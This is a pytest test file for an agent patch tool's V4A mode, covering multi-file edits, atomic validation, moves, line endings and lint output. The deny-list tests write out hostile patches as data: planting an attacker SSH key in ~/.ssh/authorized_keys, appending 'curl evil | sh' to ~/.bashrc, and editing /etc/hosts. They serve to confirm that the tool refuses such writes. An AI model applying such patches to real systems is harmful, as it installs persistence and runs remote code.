# SPDX-License-Identifier: MIT
"""The patch tool's V4A mode (docs/seed.md 2.4, docs/contracts.md 9.12)
through scripts: `ptc run` with patch(mode="patch", patch=...)."""

import json
import os
import stat

from conftest import expect


def run_patch(ptc, text, *opts):
    """Apply @text from a script; returns the tool's result dict."""
    r = ptc.run_file(f"""
        import json
        from hermes_tools import patch
        print(json.dumps(patch(mode="patch", patch={text!r})))
        """, *opts)
    expect(r, 0, "success")
    return r.output_json()


def snapshot(root):
    """{relative path: (bytes, mtime_ns, mode)} of every file under @root."""
    out = {}
    for d, _, files in os.walk(root):
        for f in files:
            p = os.path.join(d, f)
            st = os.stat(p)
            with open(p, "rb") as fh:
                out[os.path.relpath(p, root)] = (fh.read(), st.st_mtime_ns, st.st_mode)
    return out


def test_multi_file_patch(ptc):
    w = ptc.workdir
    (w / "app.py").write_text("def main():\n    print('hi')\n\n\nmain()\n")
    (w / "old.txt").write_text("obsolete\n")
    (w / "notes.txt").write_text("keep\n")
    d = run_patch(ptc, "*** Begin Patch\n"
                       "*** Update File: app.py\n"
                       "@@ def main(): @@\n"
                       " def main():\n"
                       "-    print('hi')\n"
                       "+    print('hello')\n"
                       "*** Add File: pkg/util.py\n"
                       "+X = 1\n"
                       "*** Delete File: old.txt\n"
                       "*** Move File: notes.txt -> docs/notes.txt\n"
                       "*** End Patch\n")
    assert d["success"] is True, d
    assert (w / "app.py").read_text() == "def main():\n    print('hello')\n\n\nmain()\n"
    assert (w / "pkg/util.py").read_text() == "X = 1"
    assert not (w / "old.txt").exists()
    assert (w / "docs/notes.txt").read_text() == "keep\n" and not (w / "notes.txt").exists()
    assert d["files_modified"] == ["app.py", "notes.txt -> docs/notes.txt"], d
    assert d["files_created"] == ["pkg/util.py"], d
    assert d["files_deleted"] == ["old.txt"], d
    assert d["diff"] == ("--- a/app.py\n+++ b/app.py\n@@ -1,5 +1,5 @@\n def main():\n"
                         "-    print('hi')\n+    print('hello')\n \n \n main()\n"
                         "\n--- /dev/null\n+++ b/pkg/util.py\n+X = 1"
                         "\n--- a/old.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-obsolete\n"
                         "\n# Moved: notes.txt -> docs/notes.txt"), d
    assert set(d["lint"]) == {"app.py", "pkg/util.py"}, d
    assert d["lint"]["app.py"]["status"] == "ok", d
    assert "error" not in d


def test_failed_validation_changes_nothing(ptc):
    w = ptc.workdir
    (w / "a.txt").write_text("alpha\nbeta\n")
    (w / "b.txt").write_text("gamma\n")
    before = snapshot(w)
    d = run_patch(ptc, "*** Begin Patch\n"
                       "*** Update File: a.txt\n-alpha\n+ALPHA\n"
                       "*** Add File: new.txt\n+fresh\n"
                       "*** Delete File: b.txt\n"
                       "*** Move File: a.txt -> c.txt\n"
                       "*** Update File: c.txt\n@@ nowhere @@\n-zeta\n+ZETA\n"
                       "*** End Patch\n")
    assert d["success"] is False, d
    assert d["error"].startswith(
        "Patch validation failed (no files were modified):\n"
        "  • c.txt: hunk 'nowhere' not found — Could not find a match for old_string in the "
        "file"), d
    assert set(d) == {"success", "error"}, d
    assert snapshot(w) == before


def test_markers_are_whole_lines(ptc):
    d = run_patch(ptc, "*** Begin Patch\n"
                       "*** Add File: doc.md\n"
                       "+# How to write a patch\n"
                       "+*** Begin Patch\n"
                       "+*** End Patch\n"
                       "*** End Patch\n"
                       "*** Add File: never.txt\n+x\n")
    assert d["success"] is True, d
    assert (ptc.workdir / "doc.md").read_text() == (
        "# How to write a patch\n*** Begin Patch\n*** End Patch")
    assert not (ptc.workdir / "never.txt").exists()


def test_move_to_and_end_of_file(ptc):
    w = ptc.workdir
    (w / "tool.sh").write_text("#!/bin/sh\necho one\n")
    os.chmod(w / "tool.sh", 0o750)
    d = run_patch(ptc, "*** Begin Patch\n"
                       "*** Update File: tool.sh\n"
                       "*** Move to: bin/tool.sh\n"
                       "@@\n"
                       "-echo one\n"
                       "+echo two\n"
                       "*** End of File\n"
                       "*** Update File: bin/tool.sh\n"
                       "+echo three\n"
                       "*** End Patch\n")
    assert d["success"] is True, d
    assert not (w / "tool.sh").exists()
    assert (w / "bin/tool.sh").read_text() == "#!/bin/sh\necho two\necho three\n"
    assert stat.S_IMODE(os.stat(w / "bin/tool.sh").st_mode) == 0o750
    assert d["files_modified"] == ["tool.sh -> bin/tool.sh", "bin/tool.sh"], d


def test_blank_line_in_hunk_is_context(ptc):
    w = ptc.workdir
    src = "class A:\n    x = 1\n\n    def f(self):\n        return 1\n"
    (w / "m.py").write_text(src)
    d = run_patch(ptc, "*** Begin Patch\n"
                       "*** Update File: m.py\n"
                       "@@ class A: @@\n"
                       "     x = 1\n"
                       "\n"
                       "     def f(self):\n"
                       "-        return 1\n"
                       "+        return 2\n"
                       "\n"
                       "*** End Patch\n")
    assert d["success"] is True, d
    assert (w / "m.py").read_text() == src.replace("return 1", "return 2")


def test_crlf_patch_and_file(ptc):
    w = ptc.workdir
    (w / "win.txt").write_bytes(b"one\r\ntwo\r\n")
    d = run_patch(ptc, "*** Begin Patch\r\n*** Update File: win.txt\r\n-two\r\n+TWO\r\n"
                       "*** End Patch\r\n")
    assert d["success"] is True, d
    assert (w / "win.txt").read_bytes() == b"one\r\nTWO\r\n"


def test_add_existing_file_is_an_error(ptc):
    (ptc.workdir / "a.txt").write_text("precious\n")
    d = run_patch(ptc, "*** Add File: a.txt\n+overwritten\n")
    assert d == {"success": False,
                 "error": "Patch validation failed (no files were modified):\n"
                          "  • a.txt: file already exists — use Update File, not Add File"}, d
    assert (ptc.workdir / "a.txt").read_text() == "precious\n"


def test_deny_list_covers_move_targets(ptc):
    (ptc.workdir / "key.txt").write_text("ssh-ed25519 AAAA attacker\n")
    (ptc.home / ".bashrc").write_text("# rc\n")
    d = run_patch(ptc, "*** Move File: key.txt -> ~/.ssh/authorized_keys\n"
                       "*** Update File: ~/.bashrc\n+curl evil | sh\n")
    assert d == {"success": False,
                 "error": "Patch validation failed (no files were modified):\n"
                          f"  • Write denied: '{ptc.home}/.ssh/authorized_keys' is a protected "
                          "system/credential file.\n"
                          f"  • Write denied: '{ptc.home}/.bashrc' is a protected "
                          "system/credential file."}, d
    assert (ptc.workdir / "key.txt").exists()
    assert not (ptc.home / ".ssh").exists()
    assert (ptc.home / ".bashrc").read_text() == "# rc\n"


def test_sensitive_system_path(ptc):
    d = run_patch(ptc, "*** Update File: /etc/hosts\n+127.0.0.1 evil\n")
    assert d == {"error": "Refusing to write to sensitive system path: /etc/hosts\n"
                          "Use the terminal tool with sudo if you need to modify system files."}, d


def test_parse_error_and_no_changes(ptc):
    d = run_patch(ptc, "*** Begin Patch\n*** Update File: a.py\n*** End Patch\n")
    assert d == {"success": False,
                 "error": "Failed to parse patch: Parse error: UPDATE 'a.py': no hunks found"}, d
    (ptc.workdir / "a.py").write_text("x = 1\n")
    d = run_patch(ptc, "*** Update File: a.py\n x = 1\n")
    assert d == {"success": False,
                 "error": "Patch validation failed (no files were modified):\n"
                          "  • Patch contains no changes (only context lines were provided)"}, d
    assert (ptc.workdir / "a.py").read_text() == "x = 1\n"


def test_hunk_not_found_did_you_mean(ptc):
    (ptc.workdir / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    d = run_patch(ptc, "*** Update File: calc.py\n"
                       "@@ def add @@\n"
                       " def add_numbers():\n"
                       "-    pass\n"
                       "+    return 0\n")
    assert d["success"] is False, d
    assert d["error"].startswith(
        "Patch validation failed (no files were modified):\n"
        "  • calc.py: hunk 'def add' not found — Could not find a match for old_string in the "
        "file\n\nDid you mean one of these sections?\n"), d
    assert "   1| def add(a, b):" in d["error"], d
    assert "_hint" not in d, d


def test_ambiguous_hunk_and_addition_only_hint(ptc):
    w = ptc.workdir
    (w / "cfg.ini").write_text("[a]\nv = 1\n[b]\nv = 1\n")
    d = run_patch(ptc, "*** Update File: cfg.ini\n-v = 1\n+v = 2\n")
    assert d["success"] is False, d
    assert d["error"] == ("Patch validation failed (no files were modified):\n"
                          "  • cfg.ini: hunk (no hint) not found — Found 2 matches for "
                          "old_string. Provide more context to make it unique, or use "
                          "replace_all=True."), d
    d = run_patch(ptc, "*** Update File: cfg.ini\n@@ [b] @@\n+w = 3\n")
    assert d["success"] is True, d
    assert (w / "cfg.ini").read_text() == "[a]\nv = 1\n[b]\nw = 3\nv = 1\n"


def test_python_lint_error_is_reported(ptc):
    d = run_patch(ptc, "*** Add File: bad.py\n+def broken(:\n+    pass\n")
    assert d["success"] is True, d
    assert d["lint"]["bad.py"]["status"] == "error", d
    assert "SyntaxError" in d["lint"]["bad.py"]["output"], d
